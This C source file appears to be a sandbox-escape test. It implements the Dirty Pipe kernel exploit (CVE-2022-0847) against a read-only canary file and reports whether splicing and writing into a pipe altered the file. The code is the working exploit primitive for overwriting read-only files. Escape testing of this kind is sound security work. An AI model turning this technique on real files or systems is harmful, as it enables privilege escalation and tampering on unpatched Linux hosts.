/* CVE-2022-0847 (Dirty Pipe), on the runner's read-only canary only: fill and
 * drain a pipe (every buffer left mergeable), splice one byte of the canary
 * into it, write to the pipe.  On a vulnerable kernel the write lands in the
 * canary's page cache.  The entry point (splice from a read-only file into a
 * pipe) is ordinary I/O at every level; the canary changing is the escape.
 * Args: CANARY (a read-only file in the rootfs). */
#include "escape.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

ATTEMPT(dirty_pipe)
{
	if (argc < 1)
		blocked("usage: CANARY");
	char before[64], after[64];
	if (read_file(argv[0], before, sizeof(before)) < 8)
		blocked("read canary %s: %s", argv[0], en(errno));
	int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		blocked("open canary: %s", en(errno));
	int p[2];
	if (pipe(p) < 0)
		blocked("pipe: %s", en(errno));
	int size = fcntl(p[1], F_GETPIPE_SZ);
	char page[4096];
	memset(page, 'P', sizeof(page));
	for (int left = size; left > 0; left -= (int)sizeof(page))
		(void)!write(p[1], page, left < (int)sizeof(page) ? (size_t)left : sizeof(page));
	for (int left = size; left > 0; left -= (int)sizeof(page))
		(void)!read(p[0], page, left < (int)sizeof(page) ? (size_t)left : sizeof(page));
	loff_t off = 0;
	ssize_t n = splice(fd, &off, p[1], NULL, 1, 0);
	if (n != 1)
		blocked("splice(read-only file -> pipe): %s", n < 0 ? en(errno) : "short");
	const char *evil = "ESCAPE";
	ssize_t w = write(p[1], evil, strlen(evil));
	close(fd);
	if (read_file(argv[0], after, sizeof(after)) < 8)
		blocked("re-read canary: %s", en(errno));
	if (strcmp(before, after) != 0)
		escaped("the pipe write after splice changed the read-only canary: \"%.*s\"", 16, after);
	blocked("splice into a pipe reached the kernel (entry point open) and the pipe write (%zd bytes) stayed in "
		"the pipe: the canary is unchanged (kernel not vulnerable)", w);
}
